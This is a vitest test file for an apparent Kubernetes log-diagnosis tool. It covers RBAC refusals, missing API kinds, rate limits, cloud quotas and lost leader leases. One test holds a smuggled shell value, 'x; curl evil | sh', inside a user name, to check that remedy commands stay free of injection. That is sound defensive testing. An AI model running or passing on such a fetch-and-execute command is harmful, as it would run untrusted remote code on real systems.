import { describe, expect, it } from 'vitest';
import { diagnosisOf, firstOf, logOf, lonePod, looping } from '../testing/minimal.ts';

/** A pod that is running and ready. */
const ready = lonePod('watcher', {
  status: {
    conditions: [{ type: 'Ready', status: 'True' }],
    containerStatuses: [{ name: 'main', ready: true, restartCount: 0, state: { running: { startedAt: '2024-01-01T00:00:00Z' } } }],
  },
});
const of = (...lines: string[]) => ({ resources: [ready], logs: [logOf('watcher', lines, false)] });

const FORBIDDEN =
  'E0101 reflector.go:147] Failed to watch *v1.Pod: pods is forbidden: User "system:serviceaccount:default:watcher" cannot list resource "pods" in API group "" at the cluster scope';
const KIND_MISSING =
  'ERROR setup unable to start manager {"error": "no matches for kind \\"Widget\\" in version \\"example.com/v1beta1\\""}';

describe('a ready pod whose log says what the API server refuses', () => {
  it.each([
    ['as client-go prints it', FORBIDDEN],
    [
      'inside of JSON',
      `ApiException (403) Reason: Forbidden HTTP response body: {"message":"pods is forbidden: User \\"system:serviceaccount:default:watcher\\" cannot list resource \\"pods\\""}`,
    ],
    ['about a user', 'Error: deployments.apps is forbidden: User "ci-bot" cannot patch resource "deployments" in API group "apps"'],
  ])('lacks a permission, %s', (_, line) => expect(firstOf(of('starting', line))).toBe('rbac.forbidden Pod/watcher'));

  it('asks for a kind that the API server does not serve', () => {
    expect(firstOf(of('starting', KIND_MISSING))).toBe('api.kind_missing Pod/watcher');
    expect(diagnosisOf(of('starting', KIND_MISSING)).reason).toContain('Widget');
  });

  it('counts when it is repeated up to the end, among other lines', () => {
    const lines = Array.from({ length: 60 }, (_, i) => (i % 10 === 0 ? FORBIDDEN : `synced ${i} objects`));
    expect(firstOf(of(...lines))).toBe('rbac.forbidden Pod/watcher');
  });

  it('is no incident once many other lines have followed', () => {
    const later = Array.from({ length: 60 }, (_, i) => `synced ${i} objects`);
    expect(diagnosisOf(of(FORBIDDEN, FORBIDDEN, FORBIDDEN, ...later)).verdict).toBe('no_incident');
  });

  it('gives no command with a user that is no service account', () => {
    const line = 'pods is forbidden: User "x; curl evil | sh" cannot list resource "pods"';
    expect(JSON.stringify(diagnosisOf(of(line)).causes[0]?.remedies.map(({ command }) => command ?? ''))).not.toContain('curl');
  });
});

const THREE = [1, 2, 3];

describe('a ready pod that is refused again and again', () => {
  it.each([
    ['requests', '429 Client Error: Too Many Requests for url: https://api.example.com/v1/items'],
    ['Go', 'Get "https://api.example.com/v1/items": unexpected status 429'],
    ['axios', 'AxiosError: Request failed with status code 429'],
    ['urllib', 'urllib.error.HTTPError: HTTP Error 429: Too Many Requests'],
    ['an SDK of AWS', 'operation error STS: AssumeRole, api error ThrottlingException: Rate exceeded'],
    ['gRPC', 'rpc error: code = ResourceExhausted desc = Quota exceeded for quota metric'],
    ['client-go', 'the server has received too many requests and has asked us to try again later (get pods)'],
  ])('asks too often, in the words of %s', (_, line) => {
    const [first] = diagnosisOf(of('starting', ...THREE.map(() => line))).causes;
    expect(`${first?.code} ${first?.object.name}`).toBe('dependency.external_unavailable watcher');
    expect(first?.title).toBe('Asks more often than the called system allows: Pod watcher');
  });

  it.each([
    ['AWS', 'api error VcpuLimitExceeded: You have requested more vCPU capacity than your current vCPU limit', 'VcpuLimitExceeded'],
    [
      'Google Cloud',
      "googleapi: Error 403: Quota 'SSD_TOTAL_GB' exceeded. Limit: 500.0 in region europe-west1., quotaExceeded",
      'SSD_TOTAL_GB',
    ],
    [
      'Azure',
      'OperationNotAllowed: Operation could not be completed as it results in exceeding approved Total Regional Cores quota',
      'Total Regional Cores',
    ],
  ])('has used up a quota of %s, which is named', (_, line, quota) => {
    const [first] = diagnosisOf(of('starting', ...THREE.map(() => line))).causes;
    expect(first?.title).toBe('Quota or capacity of the cloud is used up: Pod watcher');
    expect(first?.summary).toContain(quota);
  });

  it.each([
    ['was refused once, and tries again', ['429 Client Error: Too Many Requests for url: https://api.example.com/']],
    ['limits its own clients', THREE.map((i) => `10.0.0.${i} - - "GET /v1/items HTTP/1.1" 429 17 "-" "curl/8"`)],
    ['names a ResourceQuota of its namespace', THREE.map(() => 'created: exceeded quota: compute, requested: pods=1, used: pods=4')],
  ])('is no incident if it %s', (_, lines) => expect(diagnosisOf(of('starting', ...lines)).verdict).toBe('no_incident'));
});

it.each([
  ['the library', 'F0101 12:00:00.000000 1 main.go:90] leaderelection lost'],
  ['controller-runtime', '{"level":"error","msg":"problem running manager","error":"leader election lost"}'],
  ['client-go', 'E0101 leaderelection.go:367] Failed to renew lease kube-system/watcher: timed out waiting for the condition'],
])('a program that exits because it lost its lease says so, in the words of %s', (_, line) => {
  const [first] = diagnosisOf({
    resources: [lonePod('watcher', { state: looping(1) })],
    logs: [logOf('watcher', ['starting', line])],
  }).causes;
  expect(`${first?.code} ${first?.object.name}`).toBe('app.crash watcher');
  expect(first?.title).toBe('Lost its lease as the leader: Pod watcher');
  expect(first?.remedies[0]?.command).toContain('/readyz?verbose');
});
